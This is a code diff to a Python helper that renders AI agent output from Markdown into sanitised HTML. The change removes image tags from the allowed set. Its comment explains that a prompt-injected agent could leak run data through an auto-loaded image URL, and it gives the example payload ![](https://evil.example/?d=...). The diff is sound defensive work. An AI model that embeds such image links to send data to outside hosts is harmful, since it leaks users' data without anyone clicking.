@@ -85,10 +85,15 @@ def pretty_json(value) -> str:
     return json.dumps(value, indent=2, ensure_ascii=False, sort_keys=False, default=str)
 
 
+MARKDOWN_TAGS = nh3.ALLOWED_TAGS - {"img"}
+
+
 def markdown_html(text: str) -> SafeString:
     """Agent output is untrusted: Markdown becomes HTML only through the nh3 sanitiser."""
     html = markdown.markdown(text, extensions=["fenced_code", "tables", "sane_lists"])
-    return mark_safe(nh3.clean(html))  # noqa: S308 - nh3 removed everything unsafe
+    # No images: the browser would fetch their URLs on load, so a prompt-injected agent could
+    # send run data to any site (![](https://evil.example/?d=...)) without anyone clicking.
+    return mark_safe(nh3.clean(html, tags=MARKDOWN_TAGS))  # noqa: S308 - nh3 removed the rest
 
 
 def dom_id(text: str) -> str:
